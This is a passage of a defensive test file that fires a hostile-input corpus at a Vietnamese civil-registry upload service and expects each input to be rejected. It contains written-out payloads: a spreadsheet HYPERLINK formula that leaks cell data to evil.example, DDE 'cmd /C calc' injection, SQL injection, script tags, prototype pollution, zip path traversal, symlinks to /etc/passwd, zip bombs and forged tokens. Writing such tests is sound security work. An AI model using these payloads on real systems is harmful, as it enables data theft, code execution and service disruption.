/**
 * Hostile-input corpus (issue 9, part 7): one table of hostile requests and files against the running
 * local stack. Every case names its category, its input and the one specific answer it must get:
 * - HTTP: a 4xx with a specific error code and a Vietnamese message (never a 5xx); requests refused
 *   by API Gateway itself (JWT authorizer, body limit) get the gateway's fixed answer, mapped to
 *   Vietnamese by the pages (`web/js/api.js`), see docs/decisions.md;
 * - files (processed from the S3 event): the specific rejection recorded on the book's entry or scan
 *   report.
 * Around every case the book's stored state is compared: its items in the state table, its audit
 * trail and its objects in the archive bucket. Nothing may change except the recorded rejection
 * itself (the upload's own item, its report, its audit entries and its report workbook).
 * The run prints one line: "hostile-input corpus: N cases tried, M passed".
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { asUser, type client, login, stackUrls, waitFor } from '../support/api-client.js';
import { act, bookWithRecords, createBook, deliverScans, waitForStage } from '../support/book-flow.js';
import { entryWorkbook, XLSX } from '../support/entry-files.js';
import { useLocalStackEnv } from '../support/handler-env.js';
import { postForm } from '../support/scan-files.js';
import { cleanBook, excelLikeWorkbook, oleFile, sheetRows, storedZip } from '../unit/entry/entry-fixtures.js';
import { localHeaderOffset, makePdf, manyEntriesZip, patchZip, zipOf } from '../unit/scans/fixtures.js';

useLocalStackEnv();

type Category = 'excel' | 'csv' | 'zip' | 'pdf' | 'json' | 'headers' | 'path' | 'query';
type Client = ReturnType<typeof client>;

/** What the corpus runs against, prepared once. */
interface World {
  entryBook: { bookId: string; quyenSo: string; yearOpened: number };
  scanBook: { bookId: string };
  /** A one-record book in Review, claimed by the officer (records can be corrected). */
  reviewBook: { bookId: string };
  officer: Client;
  clerk: Client;
  contractor: Client;
  police: Client;
  ops: Client;
  pdf: Buffer;
  jwtKey: Uint8Array;
}

interface HttpExpect {
  status: number;
  /** `error` of the body (our code), or undefined when API Gateway answers (no `error` field there). */
  error?: string;
  /** Exact message, or a pattern. */
  message: string | RegExp;
  /** A field-level issue that must be named (`details.issues[].path`). */
  issue?: string;
}

interface HttpCase {
  category: Category;
  name: string;
  /** Which book's stored state is compared around the request. */
  book: 'entry' | 'scan' | 'review';
  request: (w: World) => Promise<{ status: number; body: any }>;
  expect: HttpExpect;
}

interface FileCase {
  category: Category;
  name: string;
  kind: 'entry' | 'scans' | 'extract';
  fileName: string;
  contentType: string;
  file: (w: World) => Promise<Buffer>;
  /**
   * The rejection recorded: a file-level code or an issue rule (entry report), an archive code or a
   * per-entry reason (scan report), or "row:column" of an issue on the refused extract upload.
   */
  expect: { fileError: string } | { ruleId: string; column?: string } | { archiveError: string } | { entry: string; reason: string } | { extractIssue: string };
}

type Case = HttpCase | FileCase;
const isFile = (c: Case): c is FileCase => 'kind' in c;

/** Vietnamese letters that no English message contains. */
const VIETNAMESE = /[ăâđêôơưàáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵ]/i;
const GATEWAY_401: HttpExpect = { status: 401, message: 'Unauthorized' };
const invalid = (issue: string, message: string | RegExp = 'Dữ liệu gửi lên không hợp lệ'): HttpExpect => ({
  status: 400,
  error: 'InvalidInput',
  message,
  issue,
});

// ---------------------------------------------------------------- helpers for requests

const tokens = new Map<string, Promise<string>>();
/** A signed-in user's token, once per run. */
const tokenOf = (username: string) => tokens.get(username) ?? tokens.set(username, login(username)).get(username)!;

/** A request as a browser would send it; by default signed in as the commune officer of 90101. */
async function raw(w: World, method: string, p: string, init: { token?: string | null; headers?: Record<string, string>; body?: string | Buffer } = {}) {
  const token = init.token === undefined ? await tokenOf('hotich.binhan') : init.token;
  const r = await fetch(`${stackUrls().api}${p}`, {
    method,
    headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...(init.headers ?? {}) },
    body: init.body,
  });
  const text = await r.text();
  let body: unknown = text;
  try {
    body = JSON.parse(text);
  } catch {
    /* not JSON */
  }
  void w;
  return { status: r.status, body: body as any };
}

const jsonBody = (w: World, method: string, p: string, body: string, token?: string | null) =>
  raw(w, method, p, { token, headers: { 'content-type': 'application/json' }, body });

/** A token as the local stand-in for Cognito signs it, with claims or options changed. */
async function forged(key: Uint8Array, o: { claims?: Record<string, unknown>; issuer?: string; audience?: string; expired?: boolean; alg?: string } = {}) {
  const now = Math.floor(Date.now() / 1000);
  return new SignJWT({ 'cognito:username': 'hotich.binhan', 'cognito:groups': ['commune_officer'], 'custom:unit': '90101', token_use: 'id', ...o.claims })
    .setProtectedHeader({ alg: o.alg ?? 'HS256' })
    .setSubject('u-hotich-binhan')
    .setIssuer(o.issuer ?? 'urn:hotich:local')
    .setAudience(o.audience ?? 'hotich-local-web')
    .setIssuedAt(o.expired ? now - 7200 : now)
    .setExpirationTime(o.expired ? now - 3600 : now + 3600)
    .sign(key);
}

const b64url = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');

// ---------------------------------------------------------------- helpers for files

/** The entry book's 3 clean rows as sheet rows (header first), in the Ministry template's columns. */
const cleanRows = (w: World, columns?: string[]) =>
  sheetRows('KS', cleanBook('KS', { rows: 3, year: w.entryBook.yearOpened, quyenSo: w.entryBook.quyenSo, seed: 3 }), columns) as unknown[][];

/**
 * An entry workbook of the entry book's clean rows with cells of the first data row set as Excel stores
 * them (raw: "_x0000_" is how Excel writes a NUL), in a workbook written like Excel writes one.
 */
const entryWith = (fields: Record<string, unknown>) => async (w: World) => {
  const rows = cleanRows(w);
  for (const [column, value] of Object.entries(fields)) rows[1]![(rows[0] as string[]).indexOf(column)] = value;
  return excelLikeWorkbook([{ name: 'Sheet1', rows: rows as never }]);
};

/** A zip whose names yazl refuses: written with placeholders of the same length, then patched. */
async function zipWithNames(names: string[], data: (i: number) => Buffer): Promise<Buffer> {
  let zip = await zipOf(names.map((n, i) => ({ name: `${String(i % 10).repeat(n.length - 4)}.pdf`, data: data(i) })));
  names.forEach((n, i) => {
    zip = patchZip(zip, i, { name: Buffer.from(n) });
  });
  return zip;
}

const encryptedPdf = (pdf: Buffer) =>
  Buffer.from(pdf.toString('latin1').replace('/Root', '/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>\n/Root'), 'latin1');

// ---------------------------------------------------------------- the corpus

const B = (w: World) => `/books/${w.entryBook.bookId}`;
const S = (w: World) => `/books/${w.scanBook.bookId}`;

/** PATCH of the review book's record 1/2018 at its current version, as the claiming officer. */
async function correct(w: World, body: Record<string, unknown>) {
  const p = `/books/${w.reviewBook.bookId}/records/1-2018`;
  const version = (await w.officer.get(p)).body.version;
  return raw(w, 'PATCH', p, { headers: { 'content-type': 'application/json' }, body: JSON.stringify({ version, ...body }) });
}

const cases: Case[] = [
  // ---------------- Excel (entry workbooks, judged from the S3 event)
  {
    category: 'excel',
    name: 'CSV renamed .xlsx',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async () => Buffer.from('so;quyenSo;ngayDangKy\n1/2018;1/2018;01.01.2018\n'),
    expect: { fileError: 'CSV_OR_TEXT' },
  },
  {
    category: 'excel',
    name: 'HTML table named .xlsx',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async () => Buffer.from('<html><body><table><tr><td>so</td></tr></table></body></html>'),
    expect: { fileError: 'HTML_OR_XML' },
  },
  {
    category: 'excel',
    name: 'random bytes named .xlsx',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async () => Buffer.concat([Buffer.from([0x00, 0x01]), randomBytes(4000)]),
    expect: { fileError: 'NOT_XLSX' },
  },
  {
    category: 'excel',
    name: 'legacy .xls (OLE compound file)',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async () => oleFile(['Workbook', 'SummaryInformation']),
    expect: { fileError: 'LEGACY_XLS' },
  },
  {
    category: 'excel',
    name: 'password-protected workbook (encrypted OOXML)',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async () => oleFile(['EncryptionInfo', 'EncryptedPackage']),
    expect: { fileError: 'PASSWORD_PROTECTED' },
  },
  {
    category: 'excel',
    name: 'macro-enabled workbook (vbaProject.bin) named .xlsx',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async () =>
      storedZip([
        {
          name: '[Content_Types].xml',
          data: '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        },
        { name: 'xl/workbook.xml', data: '<workbook/>' },
        { name: 'xl/vbaProject.bin', data: randomBytes(100) },
      ]),
    expect: { fileError: 'MACRO_ENABLED' },
  },
  {
    category: 'excel',
    name: 'OpenDocument spreadsheet named .xlsx',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async () => storedZip([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet' }]),
    expect: { fileError: 'ODS' },
  },
  {
    category: 'excel',
    name: 'binary .xlsb named .xlsx',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async () => storedZip([{ name: 'xl/workbook.bin', data: randomBytes(64) }]),
    expect: { fileError: 'XLSB' },
  },
  {
    category: 'excel',
    name: 'zip without a workbook (a Word document) named .xlsx',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async () => storedZip([{ name: 'word/document.xml', data: '<w:document/>' }]),
    expect: { fileError: 'NOT_XLSX' },
  },
  {
    category: 'excel',
    name: 'truncated workbook (last 40% cut off)',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async (w) => {
      const b = await entryWith({})(w);
      return b.subarray(0, Math.floor(b.length * 0.6));
    },
    expect: { fileError: 'CORRUPT_ZIP' },
  },
  {
    category: 'excel',
    name: 'formula injection in a text cell: =HYPERLINK(…)',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ nksHoTen: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")' }),
    expect: { ruleId: 'E-FORMULA-TEXT', column: 'nksHoTen' },
  },
  {
    category: 'excel',
    name: "DDE injection in a text cell: =cmd|' /C calc'!A0",
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ noiDangKy: "=cmd|' /C calc'!A0" }),
    expect: { ruleId: 'E-FORMULA-TEXT', column: 'noiDangKy' },
  },
  {
    category: 'excel',
    name: "formula injection starting with @ / + / -: @SUM(1+1)*cmd|' /C calc'!A0",
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ nguoiKy: "@SUM(1+1)*cmd|' /C calc'!A0", chucVuNguoiKy: "-2+3+cmd|' /C calc'!A0" }),
    expect: { ruleId: 'E-FORMULA-TEXT', column: 'nguoiKy' },
  },
  {
    category: 'excel',
    name: 'a real formula without a cached value (HYPERLINK)',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ nksHoTen: { formula: 'HYPERLINK("http://evil.example","x")' } }),
    expect: { ruleId: 'E-FORMULA-NO-RESULT', column: 'nksHoTen' },
  },
  {
    category: 'excel',
    name: 'NUL byte inside a name cell (as Excel stores it: _x0000_)',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ nksHoTen: 'Nguyễn Văn_x0000_ An' }),
    expect: { ruleId: 'E-CONTROL-CHAR', column: 'nksHoTen' },
  },
  {
    category: 'excel',
    name: 'unicode trick: right-to-left override (U+202E) in a name',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ nksHoTen: 'Nguyễn \u202Ena Vnăv' }),
    expect: { ruleId: 'E-CONTROL-CHAR', column: 'nksHoTen' },
  },
  {
    category: 'excel',
    name: 'oversized cell (5,000 characters)',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ ghiChu: 'Ghi chú '.repeat(625) }),
    expect: { ruleId: 'E-CELL-TOO-LONG', column: 'ghiChu' },
  },
  {
    category: 'excel',
    name: 'prototype-pollution key as registration number: __proto__',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ so: '__proto__' }),
    expect: { ruleId: 'E-SO-FORMAT', column: 'so' },
  },
  {
    category: 'excel',
    name: 'prototype-pollution column headers: __proto__, constructor',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async (w) => {
      const rows = cleanRows(w).map((r, i) => [...r, ...(i === 0 ? ['__proto__', 'constructor'] : ['{"polluted":true}', 'prototype'])]);
      return excelLikeWorkbook([{ name: 'Sheet1', rows: rows as never }]);
    },
    expect: { ruleId: 'E-EXTRA-COLUMN' },
  },
  {
    category: 'excel',
    name: 'wrong type: text in a date column',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ ngayDangKy: "'; DROP TABLE so_ho_tich; --" }),
    expect: { ruleId: 'E-DATE-FORMAT', column: 'ngayDangKy' },
  },
  {
    category: 'excel',
    name: 'wrong type: text in an integer column',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ trangSo: '1e308' }),
    expect: { ruleId: 'E-INTEGER', column: 'trangSo' },
  },
  {
    category: 'excel',
    name: 'ID number with script injection',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: entryWith({ nksSoDinhDanh: '<script>alert(1)</script>' }),
    expect: { ruleId: 'E-ID-FORMAT', column: 'nksSoDinhDanh' },
  },
  {
    category: 'excel',
    name: 'a marriage (KH) workbook for a birth (KS) book',
    kind: 'entry',
    fileName: 'nhap-lieu.xlsx',
    contentType: XLSX,
    file: async (w) => (await entryWorkbook({ ...w.entryBook, registerType: 'KH' }, 3)).bytes,
    expect: { ruleId: 'E-WRONG-TYPE' },
  },

  // ---------------- CSV (the police's register extract)
  {
    category: 'csv',
    name: 'binary garbage named .csv',
    kind: 'extract',
    fileName: 'trich-xuat.csv',
    contentType: 'text/csv',
    file: async () => randomBytes(3000),
    expect: { extractIssue: '1:idNumber' },
  },
  {
    category: 'csv',
    name: 'sex code 9 and a non-numeric birth year',
    kind: 'extract',
    fileName: 'trich-xuat.csv',
    contentType: 'text/csv',
    file: async () => Buffer.from('SoDinhDanh;HoTen;GioiTinh;NamSinhCha\n001200000001;Lê Thị B;9;abc\n'),
    expect: { extractIssue: '2:sex' },
  },
  {
    category: 'csv',
    name: 'a missing name',
    kind: 'extract',
    fileName: 'trich-xuat.csv',
    contentType: 'text/csv',
    file: async () => Buffer.from('SoDinhDanh;HoTen;GioiTinh\n001200000001;;1\n'),
    expect: { extractIssue: '2:fullName' },
  },
  {
    category: 'csv',
    name: "formula injection in a name: =cmd|' /C calc'!A0",
    kind: 'extract',
    fileName: 'trich-xuat.csv',
    contentType: 'text/csv',
    file: async () => Buffer.from("SoDinhDanh;HoTen;GioiTinh\n001200000001;=cmd|' /C calc'!A0;1\n"),
    expect: { extractIssue: '2:fullName' },
  },
  {
    category: 'csv',
    name: 'right-to-left override in a name',
    kind: 'extract',
    fileName: 'trich-xuat.csv',
    contentType: 'text/csv',
    file: async () => Buffer.from('SoDinhDanh;HoTen;GioiTinh\n001200000001;Lê \u202EB;1\n'),
    expect: { extractIssue: '2:fullName' },
  },
  {
    category: 'csv',
    name: 'truncated .xlsx named .xlsx',
    kind: 'extract',
    fileName: 'trich-xuat.xlsx',
    contentType: XLSX,
    file: async (w) => (await entryWith({})(w)).subarray(0, 3000),
    expect: { extractIssue: '0:' },
  },

  // ---------------- zip (scan deliveries)
  {
    category: 'zip',
    name: 'path traversal ../../etc/1-2018.pdf',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: (w) => zipWithNames(['../../etc/1-2018.pdf'], () => w.pdf),
    expect: { entry: '../../etc/1-2018.pdf', reason: 'PATH_TRAVERSAL' },
  },
  {
    category: 'zip',
    name: 'absolute path /tmp/1-2018.pdf',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: (w) => zipWithNames(['/tmp/1-2018.pdf'], () => w.pdf),
    expect: { entry: '/tmp/1-2018.pdf', reason: 'PATH_TRAVERSAL' },
  },
  {
    category: 'zip',
    name: 'drive letter and backslashes C:\\..\\1-2018.pdf',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: (w) => zipWithNames(['C:\\..\\1-2018.pdf'], () => w.pdf),
    expect: { entry: 'C:\\..\\1-2018.pdf', reason: 'PATH_TRAVERSAL' },
  },
  {
    category: 'zip',
    name: 'symlink entry named for a record (→ /etc/passwd)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: () => zipOf([{ name: '1-2018.pdf', data: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
    expect: { entry: '1-2018.pdf', reason: 'SYMLINK' },
  },
  {
    category: 'zip',
    name: 'NUL byte in an entry name',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: (w) => zipWithNames(['1-2018\u0000.pdf'], () => w.pdf),
    expect: { entry: '1-2018\u0000.pdf', reason: 'UNSAFE_NAME' },
  },
  {
    category: 'zip',
    name: 'zip bomb: 20 MB of zeros declared in the header',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: () => zipOf([{ name: '1-2018.pdf', data: Buffer.alloc(20 * 1024 * 1024) }]),
    expect: { entry: '1-2018.pdf', reason: 'ZIP_BOMB' },
  },
  {
    category: 'zip',
    name: 'zip bomb with a lying header (declares 1,000 bytes)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async () => patchZip(await zipOf([{ name: '1-2018.pdf', data: Buffer.alloc(30 * 1024 * 1024) }]), 0, { uncompressedSize: 1000 }),
    expect: { entry: '1-2018.pdf', reason: 'ZIP_BOMB' },
  },
  {
    category: 'zip',
    name: 'huge declared size (4 GB) on a stored entry',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf, compress: false }]), 0, { uncompressedSize: 0xffff_fff0 }),
    expect: { entry: '1-2018.pdf', reason: 'TOO_LARGE' },
  },
  {
    category: 'zip',
    name: 'overlapping entries (two names, one data stream)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => {
      const zip = await zipOf([
        { name: '1-2018.pdf', data: w.pdf },
        { name: '2-2018.pdf', data: w.pdf },
      ]);
      return patchZip(zip, 1, { localHeaderOffset: localHeaderOffset(zip, 0) });
    },
    expect: { entry: '2-2018.pdf', reason: 'ZIP_BOMB' },
  },
  {
    category: 'zip',
    name: 'encrypted entry (traditional PKWARE encryption flag)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf }]), 0, { setFlags: 0x1 }),
    expect: { entry: '1-2018.pdf', reason: 'ENCRYPTED_ENTRY' },
  },
  {
    category: 'zip',
    name: 'strong encryption (flag 0x40)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf }]), 0, { setFlags: 0x41 }),
    expect: { archiveError: 'UNSUPPORTED_ARCHIVE' },
  },
  {
    category: 'zip',
    name: 'unsupported compression method (bzip2)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf }]), 0, { compressionMethod: 12 }),
    expect: { entry: '1-2018.pdf', reason: 'UNSUPPORTED_COMPRESSION' },
  },
  {
    category: 'zip',
    name: 'CRC mismatch (one byte flipped)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => {
      const zip = await zipOf([{ name: '1-2018.pdf', data: w.pdf, compress: false }]);
      const start = localHeaderOffset(zip, 0) + 30 + '1-2018.pdf'.length + zip.readUInt16LE(localHeaderOffset(zip, 0) + 28);
      zip[start + 10] = zip[start + 10]! ^ 0xff;
      return zip;
    },
    expect: { entry: '1-2018.pdf', reason: 'CORRUPT_ENTRY' },
  },
  {
    category: 'zip',
    name: 'nested zip named for a record',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => zipOf([{ name: '1-2018.pdf', data: await zipOf([{ name: '1-2018.pdf', data: w.pdf }]) }]),
    expect: { entry: '1-2018.pdf', reason: 'NESTED_ARCHIVE' },
  },
  {
    category: 'zip',
    name: 'nested zip by name (them.zip)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => zipOf([{ name: 'them.zip', data: await zipOf([{ name: '1-2018.pdf', data: w.pdf }]) }]),
    expect: { entry: 'them.zip', reason: 'NESTED_ARCHIVE' },
  },
  {
    category: 'zip',
    name: 'not a zip at all (text named .zip)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async () => Buffer.from('đây không phải tệp zip'.repeat(50)),
    expect: { archiveError: 'NOT_ZIP' },
  },
  {
    category: 'zip',
    name: 'truncated zip (end of archive cut off)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => {
      const z = await zipOf([{ name: '1-2018.pdf', data: w.pdf }]);
      return z.subarray(0, z.length - 30);
    },
    expect: { archiveError: 'NOT_ZIP' },
  },
  {
    category: 'zip',
    name: 'too many entries (20,001 declared)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async () => manyEntriesZip(20_001, (i) => `x${i}.pdf`),
    expect: { archiveError: 'TOO_MANY_ENTRIES' },
  },
  {
    category: 'zip',
    name: 'duplicate names up to Unicode normalisation and case',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) =>
      zipOf([
        { name: '1-2018.pdf', data: w.pdf },
        { name: '1-2018.PDF', data: w.pdf },
      ]),
    expect: { entry: '1-2018.PDF', reason: 'DUPLICATE_NAME' },
  },
  {
    category: 'zip',
    name: 'unicode trick: right-to-left override in an entry name',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => zipOf([{ name: '1-2018\u202Efdp.exe.pdf', data: w.pdf }]),
    expect: { entry: '1-2018\u202Efdp.exe.pdf', reason: 'UNSAFE_NAME' },
  },

  // ---------------- PDF
  {
    category: 'pdf',
    name: 'JPEG named .pdf (single upload)',
    kind: 'scans',
    fileName: '1-2018.pdf',
    contentType: 'application/pdf',
    file: async () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 2, 3, 4, 5]),
    expect: { entry: '1-2018.pdf', reason: 'NOT_PDF' },
  },
  {
    category: 'pdf',
    name: 'HTML named .pdf (single upload)',
    kind: 'scans',
    fileName: '1-2018.pdf',
    contentType: 'application/pdf',
    file: async () => Buffer.from('<html><script>alert(1)</script></html>'),
    expect: { entry: '1-2018.pdf', reason: 'NOT_PDF' },
  },
  {
    category: 'pdf',
    name: 'truncated PDF (single upload)',
    kind: 'scans',
    fileName: '1-2018.pdf',
    contentType: 'application/pdf',
    file: async (w) => w.pdf.subarray(0, w.pdf.length - 40),
    expect: { entry: '1-2018.pdf', reason: 'CORRUPT_PDF' },
  },
  {
    category: 'pdf',
    name: 'encrypted PDF (single upload)',
    kind: 'scans',
    fileName: '1-2018.pdf',
    contentType: 'application/pdf',
    file: async (w) => encryptedPdf(w.pdf),
    expect: { entry: '1-2018.pdf', reason: 'ENCRYPTED_PDF' },
  },
  {
    category: 'pdf',
    name: 'a zip named .pdf (single upload)',
    kind: 'scans',
    fileName: '1-2018.pdf',
    contentType: 'application/pdf',
    file: async (w) => zipOf([{ name: '1-2018.pdf', data: w.pdf }]),
    expect: { entry: '1-2018.pdf', reason: 'NESTED_ARCHIVE' },
  },
  {
    category: 'pdf',
    name: 'PDF header followed by garbage',
    kind: 'scans',
    fileName: '1-2018.pdf',
    contentType: 'application/pdf',
    file: async () => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(2000)]),
    expect: { entry: '1-2018.pdf', reason: 'CORRUPT_PDF' },
  },
  {
    category: 'pdf',
    name: 'zero-byte PDF inside a zip',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async () => zipOf([{ name: '1-2018.pdf', data: Buffer.alloc(0) }]),
    expect: { entry: '1-2018.pdf', reason: 'EMPTY_FILE' },
  },
  {
    category: 'pdf',
    name: 'a PDF without the .pdf extension inside a zip (.exe)',
    kind: 'scans',
    fileName: 'giao.zip',
    contentType: 'application/zip',
    file: async (w) => zipOf([{ name: '1-2018.exe', data: w.pdf }]),
    expect: { entry: '1-2018.exe', reason: 'WRONG_EXTENSION' },
  },

  // ---------------- JSON bodies
  {
    category: 'json',
    name: 'malformed JSON',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '{"action":'),
    expect: invalid('body', 'Nội dung JSON không đọc được'),
  },
  {
    category: 'json',
    name: '__proto__ key (prototype pollution)',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '{"action":"returnToEntry","__proto__":{"role":"admin"}}'),
    expect: invalid('body'),
  },
  {
    category: 'json',
    name: 'constructor.prototype keys (prototype pollution)',
    book: 'entry',
    request: (w) =>
      jsonBody(
        w,
        'POST',
        `${B(w)}/uploads`,
        JSON.stringify({ kind: 'entry', fileName: 'a.xlsx', contentType: XLSX, size: 10, constructor: { prototype: { polluted: true } } }),
      ),
    expect: invalid('body'),
  },
  {
    category: 'json',
    name: '__proto__ as a column of a legacy mapping',
    book: 'entry',
    request: (w) =>
      jsonBody(
        w,
        'POST',
        `${B(w)}/uploads`,
        `{"kind":"entry","fileName":"a.xlsx","contentType":"${XLSX}","size":10,"legacyMapping":{"source":"MISA","registerType":"KS","columns":{"__proto__":"nksHoTen","Họ tên":"nksHoTen"}}}`,
      ),
    expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'legacyMapping.columns' },
  },
  {
    category: 'json',
    name: 'wrong type: action is a number',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '{"action":123}'),
    expect: invalid('body.action'),
  },
  {
    category: 'json',
    name: 'wrong type: body is an array',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, '[{"action":"startDigitisation"}]'),
    expect: invalid('body'),
  },
  {
    category: 'json',
    name: 'wrong type: body is null',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, 'null'),
    expect: invalid('body'),
  },
  {
    category: 'json',
    name: 'NoSQL-style operator object instead of a string',
    book: 'entry',
    request: (w) =>
      jsonBody(
        w,
        'POST',
        '/books',
        JSON.stringify({
          unitCode: { $ne: null },
          registerType: 'KS',
          quyenSo: '1/2018',
          yearOpened: 2018,
          pageCount: 10,
          closingTotal: 1,
          physicalCondition: 'worn',
          custodyLocation: 'kho',
        }),
      ),
    expect: invalid('body.unitCode'),
  },
  {
    category: 'json',
    name: 'SQL injection in the volume number',
    book: 'entry',
    request: (w) =>
      jsonBody(
        w,
        'POST',
        '/books',
        JSON.stringify({
          unitCode: '90101',
          registerType: 'KS',
          quyenSo: "1/2018' OR '1'='1",
          yearOpened: 2018,
          pageCount: 10,
          closingTotal: 1,
          physicalCondition: 'worn',
          custodyLocation: 'kho',
        }),
      ),
    expect: invalid('body.quyenSo'),
  },
  {
    category: 'json',
    name: 'huge and negative numbers (pageCount 1e308, yearOpened -1)',
    book: 'entry',
    request: (w) =>
      jsonBody(
        w,
        'POST',
        '/books',
        JSON.stringify({
          unitCode: '90101',
          registerType: 'KS',
          quyenSo: '7/2018',
          yearOpened: -1,
          pageCount: 1e308,
          closingTotal: 1,
          physicalCondition: 'worn',
          custodyLocation: 'kho',
        }),
      ),
    expect: invalid('body.yearOpened'),
  },
  {
    category: 'json',
    name: 'deep nesting (10,000 levels)',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`),
    expect: invalid('body'),
  },
  {
    category: 'json',
    name: 'deep nesting inside a free-form field (legacyMapping, 40 levels)',
    book: 'entry',
    request: (w) =>
      jsonBody(
        w,
        'POST',
        `${B(w)}/uploads`,
        `{"kind":"entry","fileName":"a.xlsx","contentType":"${XLSX}","size":10,"legacyMapping":${'{"a":'.repeat(40)}1${'}'.repeat(40)}}`,
      ),
    expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'legacyMapping.source' },
  },
  {
    category: 'json',
    name: 'oversized body (100 kB)',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, JSON.stringify({ action: 'returnToEntry', reason: 'x'.repeat(100_000) })),
    expect: invalid('body', 'Nội dung quá lớn'),
  },
  {
    category: 'json',
    name: 'reason longer than allowed (1,001 characters)',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, JSON.stringify({ action: 'returnToEntry', reason: 'x'.repeat(1001) })),
    expect: invalid('body.reason'),
  },
  {
    category: 'json',
    name: 'file name with path traversal ../../a.xlsx',
    book: 'entry',
